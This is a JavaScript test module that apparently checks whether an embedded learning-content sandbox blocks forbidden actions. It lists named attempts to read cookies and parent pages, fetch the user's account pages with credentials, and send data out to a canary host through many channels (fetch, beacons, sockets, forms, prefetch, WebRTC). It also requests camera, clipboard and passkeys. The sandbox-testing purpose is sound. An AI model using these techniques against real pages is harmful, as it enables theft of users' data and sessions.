// All that a library has no business to do, by name. An attempt that gets somewhere gives back what it got; one that is
// stopped throws or gives back nothing. What only the canary can tell (was it asked?) gives back nothing either.
var HandlekraftAttempts = ({ canary, stun, platform, other, folder }) => {
  const { call, first, inside, later, loaded, put } = HandlekraftWays;
  const socket = canary.replace(/^http/, "ws");
  const whole = { credentials: "include" };
  const text = (answer) => answer.text();
  const ask = (address, more) => fetch(address, { ...whole, ...more }).then(text);
  const quietly = (address, more) => fetch(address, { mode: "no-cors", ...more }).then(() => "answered");
  const link = (rel) => {
    put("link", { rel, as: "script", href: `${canary}/${rel}` }, document.head);
    return later(800);
  };
  const blob = (source, type) => URL.createObjectURL(new Blob([source], { type }));

  return {
    // --- what the page around has ---
    "cookie": () => document.cookie,
    "cookie store": () => window.cookieStore.getAll().then((all) => all.length && "cookies"),
    "set a cookie": () => (document.cookie = "hostile=1; path=/") && document.cookie,
    "parent document": () => window.parent.document.title || "parent document",
    "parent address": () => window.parent.location.href,
    "parent's functions": () => typeof window.parent.fetch,
    "top document": () => window.top.document.title || "top document",
    "top history": () => window.top.history.length,
    "frame element": () => window.frameElement?.dataset.src,
    "opener": () => window.opener?.location.href,
    "other frames": () => [...Array(window.parent.length).keys()].map((n) => window.parent.frames[n].name).join(""),
    "referrer": () => document.referrer.replace(/^https?:\/\/[^/]+\/?/, ""),
    "document domain": () => {
      document.domain = window.location.hostname;
      return document.domain;
    },
    "origin": () => window.origin !== "null" && window.origin,
    // --- what the browser keeps for the platform ---
    "true localStorage": () => put("iframe").contentWindow.localStorage.length + 1,
    "storage behind the shim": () => {
      delete window.localStorage;
      return window.localStorage.length + 1;
    },
    "indexedDB": () => first(indexedDB.open("x"), "onsuccess", "onerror", "indexedDB"),
    "caches": () => caches.keys().then(() => "caches"),
    "private files": () => navigator.storage.getDirectory().then(() => "private files"),
    "locks": () => navigator.locks.query().then(() => "locks"),
    "storage access": () => document.requestStorageAccess().then(() => "storage access"),
    // --- what the platform tells her ---
    "her page": () => ask(`${platform}/nb/`),
    "her account": () => ask(`${platform}/nb/min-konto/`),
    "her page by XHR": () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${platform}/nb/`, false);
      request.withCredentials = true;
      request.send();
      return request.responseText;
    },
    "her place elsewhere": () => ask(`${platform}/h5p/${other}/plass/`),
    "move her place elsewhere": () => ask(`${platform}/h5p/${other}/plass/`, { method: "POST", body: "{}" }),
    "statements elsewhere": () => ask(`${platform}/h5p/${other}/hendelser/`, { method: "POST", body: "{}" }),
    "statements elsewhere, quietly": () =>
      quietly(`${platform}/h5p/${other}/hendelser/`, { ...whole, method: "POST", body: "{}" }),
    "her page as script": () => loaded("script", { src: `${platform}/nb/` }),
    "her page as picture": () => loaded("img", { src: `${platform}/nb/` }),
    "her page in a frame": () => later(800, put("iframe", { src: `${platform}/nb/` }).contentDocument?.title),
    "a form to her account": () => {
      put("form", { action: `${platform}/nb/min-konto/`, method: "post" }).submit();
      return later(300);
    },
    // --- ways out ---
    "fetch": () => quietly(`${canary}/fetch`),
    "fetch that outlives": () => quietly(`${canary}/keepalive`, { keepalive: true, method: "POST", body: "x" }),
    "XHR": () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${canary}/xhr`, false);
      request.send();
      return "answered";
    },
    "beacon": () => later(300, !navigator.sendBeacon(`${canary}/beacon`, "x") && ""),
    "socket": () => first(new WebSocket(`${socket}/socket`), "onopen", "onerror"),
    "transport": () => new WebTransport(canary.replace("http:", "https:")).ready.then(() => "transport"),
    "event source": () => first(new EventSource(`${canary}/events`), "onopen", "onerror"),
    "picture": () => first(Object.assign(new Image(), { src: `${canary}/image` }), "onload", "onerror"),
    "script": () => loaded("script", { src: `${canary}/script` }),
    "module": () => import(`${canary}/module.js`).then(() => "module"),
    "style": () => loaded("link", { rel: "stylesheet", href: `${canary}/style` }),
    "style that imports": () => {
      put("style", { textContent: `@import "${canary}/import";` });
      return later(500);
    },
    "background": () => {
      put("div", { style: `background: url(${canary}/background); width: 1px; height: 1px` });
      return later(500);
    },
    "font": () => new FontFace("x", `url(${canary}/font)`).load().then(() => "font"),
    "film": () => first(put("video", { src: `${canary}/film`, poster: `${canary}/poster` }), "onloadeddata", "onerror"),
    "sound": () => first(put("audio", { src: `${canary}/sound` }), "onloadeddata", "onerror"),
    "object": () => loaded("object", { data: `${canary}/object`, type: "text/html" }),
    "embed": () => loaded("embed", { src: `${canary}/embed`, type: "text/html" }),
    "inner frame": () => later(800, !put("iframe", { src: `${canary}/frame` }) && ""),
    "drawing": () => {
      put("div", { innerHTML: `<svg><image href="${canary}/drawing"/><use href="${canary}/use#x"/></svg>` });
      return later(500);
    },
    "prefetch": () => link("prefetch"),
    "preload": () => link("preload"),
    "preload of a module": () => link("modulepreload"),
    "prerender": () => link("prerender"),
    "manifest": () => link("manifest"),
    "icon": () => link("icon"),
    "preconnect": () => link("preconnect"),
    "look-up of a name": () => link("dns-prefetch"),
    "speculation": () => {
      const rules = JSON.stringify({ prefetch: [{ source: "list", urls: [`${canary}/speculation`] }] });
      put("script", { type: "speculationrules", textContent: rules });
      return later(500);
    },
    "form": () => {
      put("form", { action: `${canary}/form`, method: "post" }).submit();
      return later(300);
    },
    "form by a button": () => {
      put("button", { formAction: `${canary}/button` }, put("form", { method: "get" })).click();
      return later(300);
    },
    "ping": () => {
      put("a", { href: "#x", ping: `${canary}/ping` }).click();
      return later(300);
    },
    "download of its own making": () => {
      put("a", { href: blob("x", "text/plain"), download: "x.txt" }).click();
      return later(500);
    },
    "window": () => window.open(`${canary}/window`) && "window",
    "window by a link": () => {
      put("a", { href: `${canary}/link`, target: "_blank" }).click();
      return later(300);
    },
    "base address": () => {
      put("base", { href: `${canary}/` }, document.head);
      return document.baseURI.startsWith(canary) && "base address";
    },
    "report of what is stopped": () => {
      const content = `frame-ancestors 'none'; report-uri ${canary}/report`;
      put("meta", { httpEquiv: "Content-Security-Policy", content }, document.head);
      return later(300);
    },
    // --- programs beside the page ---
    "peer connection": () => call(stun),
    "peer connection of an empty document": () => {
      const { contentWindow } = put("iframe");
      return new contentWindow.RTCPeerConnection() && "peer connection";
    },
    "peer connection of a document inside": () =>
      inside(put("iframe", { name: `stun:${stun}`, srcdoc: `<script src="${folder}/ways.js"></` + "script>" })),
    "peer connection of a blob": () => {
      const source = `<script src="${folder}/ways.js"></` + "script>";
      return inside(put("iframe", { name: `stun:${stun}`, src: blob(source, "text/html") }));
    },
    "peer connection of a written document": () => {
      const frame = put("iframe", { name: `stun:${stun}` });
      frame.contentDocument.write(`<script src="${folder}/ways.js"></` + "script>");
      return inside(frame);
    },
    "worker": () => first(new Worker(`${folder}/ways.js`), "onmessage", "onerror"),
    "worker of its own making": () =>
      first(new Worker(blob("postMessage(1)", "text/javascript")), "onmessage", "onerror"),
    "shared worker": () => first(new SharedWorker(`${folder}/ways.js`).port, "onmessage", "onmessageerror"),
    "service worker": () => navigator.serviceWorker.register(`${folder}/ways.js`).then(() => "service worker"),
    "eval": () => (0, eval)("'eval'"),
    "function of text": () => Function("return 'function'")(),
    "inline script": () => {
      window.inlineRan = "";
      put("script", { textContent: "window.inlineRan = 'inline script'" });
      return window.inlineRan;
    },
    "script as data": () => loaded("script", { src: "data:text/javascript,1" }),
    "inline handler": () => {
      window.handlerRan = "";
      put("div", { innerHTML: `<img src="data:image/x,x" onerror="window.handlerRan = 'inline handler'">` });
      return later(300).then(() => window.handlerRan);
    },
    // --- the device, and her attention ---
    "alert": () => window.alert("?"),
    "question": () => window.confirm("?") && "question",
    "prompt": () => window.prompt("?", "x"),
    "print": () => window.print(),
    "full screen": () => document.body.requestFullscreen().then(() => "full screen"),
    "pointer": () => document.body.requestPointerLock().then(() => "pointer"),
    "screen kept awake": () => navigator.wakeLock.request("screen").then(() => "awake"),
    "clipboard": () => navigator.clipboard.readText().then((found) => `${found}.`),
    "write the clipboard": () => navigator.clipboard.writeText("x").then(() => "clipboard"),
    "place": () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes("place"), no)),
    "camera": () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "camera"),
    "microphone": () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => "microphone"),
    "screen": () => navigator.mediaDevices.getDisplayMedia().then(() => "screen"),
    "messages": () => Notification.requestPermission().then((answer) => answer === "granted" && answer),
    "passkeys": () => navigator.credentials.get({ password: true, mediation: "silent" }).then((found) => found && "x"),
    "payment": () => new PaymentRequest([{ supportedMethods: "x" }], { total: {} }) && "payment",
    "devices": () => navigator.usb.getDevices().then(() => "devices"),
  };
};
